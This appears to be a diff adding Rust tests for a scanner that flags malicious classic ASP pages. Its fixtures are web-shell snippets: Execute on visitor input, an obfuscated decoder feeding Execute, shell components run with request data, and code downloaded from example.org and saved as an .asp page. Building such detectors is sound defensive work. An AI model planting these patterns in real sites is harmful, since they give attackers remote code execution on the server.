@@ -1,0 +1,92 @@
+//! Pieces of classic ASP, each with what only looks like it.
+
+use crate::judge;
+use crate::kind::Kind;
+
+/// The signals of a page, without those that say that a text is run at all.
+fn codes(page: &str) -> Vec<&'static str> {
+    let mut codes: Vec<_> =
+        judge(page.as_bytes(), Kind::Asp).signals.iter().map(|signal| signal.code).collect();
+    codes.sort_unstable();
+    codes.dedup();
+    codes
+}
+
+#[test]
+fn a_member_that_is_called_execute_runs_no_program() {
+    assert_eq!(
+        codes("<% Execute sent %><% sent = Request(\"q\") : Execute(sent) %>"),
+        ["evaluates", "visitor-evaluated"]
+    );
+    assert_eq!(codes("<% sent = Request(\"q\") : conn.Execute(\"x\" & sent) %>"), [""; 0]);
+    assert_eq!(codes("<% Execute \"Update [t] Set a='\" & Request(\"q\") & \"'\" %>"), ["visitor-in-query"]);
+}
+
+#[test]
+fn what_stands_round_a_sent_text_makes_it_a_part() {
+    assert_eq!(codes("<% Execute \"x=o.\" & Request(\"q\") %>"), ["visitor-in-program"]);
+    assert_eq!(codes("<% Execute Request(\"q\") & \"\" %>"), ["visitor-evaluated"]);
+}
+
+/// A function that takes a text to pieces in a loop, and what is done with what it gives.
+fn decoder(given: &str, done: &str) -> String {
+    format!(
+        "<% Function f(s)\nFor i = 1 To Len(s)\nIf Mid(s, i, 1) = \"!\" Then\nt = vbCrLf & t\nElse\nt = Mid(s, i, 1) & t\nEnd If\nNext\n\
+         f = t\nEnd Function\n{done} f({given}) %>"
+    )
+}
+
+#[test]
+fn a_decoder_of_the_pages_own_hides_what_is_run() {
+    let text = "\"the text of an example, backwards\"";
+    assert_eq!(codes(&decoder(text, "Execute")), ["decoded-evaluated"]);
+    assert_eq!(codes(&decoder(text, "Response.Write")), [""; 0]);
+    assert_eq!(codes(&decoder("x.Item(\"template\")", "Execute")), ["evaluates"]);
+}
+
+#[test]
+fn a_text_that_is_put_together_is_read() {
+    assert_eq!(codes("<% Execute Chr(120) & Chr(61) & Chr(49) %>"), ["hidden-evaluated"]);
+    assert!(codes("<% Execute \"Exe\" & \"cute Request(\"\"q\"\")\" %>").contains(&"visitor-evaluated"));
+}
+
+#[test]
+fn functions_of_jscript_are_called_by_other_names() {
+    let page = |called: &str| {
+        format!("<%@ Language=JScript %><% var o = {{'Run': {called}}}; o.Run(Request.Form('q') + ''); %>")
+    };
+    assert_eq!(codes(&page("eval")), ["visitor-evaluated"]);
+    assert_eq!(codes(&page("example")), [""; 0]);
+}
+
+#[test]
+fn objects_of_tags_are_components() {
+    let page = |class: &str| {
+        format!("<object runat=server id=o classid=\"clsid:{class}\"></object><% o.Run Request(\"q\") %>")
+    };
+    assert_eq!(codes(&page("72C24DD5-D70A-438B-8A42-98424B88AFB8")), ["visitor-started"]);
+    assert_eq!(codes(&page("00000000-0000-0000-0000-000000000000")), [""; 0]);
+}
+
+#[test]
+fn what_another_server_sends_is_kept_as_a_page_or_as_data() {
+    let page = |file: &str| {
+        format!(
+            "<% Set x = CreateObject(“MSXML2.XMLHTTP”) : x.Open \"GET\", \"http://example.org/a\", False : x.Send\n\
+             Set s = CreateObject(\"ADODB.Stream\") : s.Write x.responseBody : s.SaveToFile Server.MapPath(\"{file}\"), 2 %>"
+        )
+    };
+    assert_eq!(codes(&page("a.asp")), ["remote-planted"]);
+    assert_eq!(codes(&page("a.xml")), ["remote-written"]);
+}
+
+#[test]
+fn a_page_that_writes_itself_is_told_from_one_that_writes_beside_itself() {
+    let page = |place: &str| {
+        format!(
+            "<% Set f = CreateObject(\"Scripting.FileSystemObject\").CreateTextFile(Server.MapPath({place})) : f.Write Request(\"q\") %>"
+        )
+    };
+    assert_eq!(codes(&page("Request.ServerVariables(\"SCRIPT_NAME\")")), ["visitor-wrote-page"]);
+    assert_eq!(codes(&page("Request.ServerVariables(\"SCRIPT_NAME\") & \".log\"")), ["visitor-text-kept"]);
+}
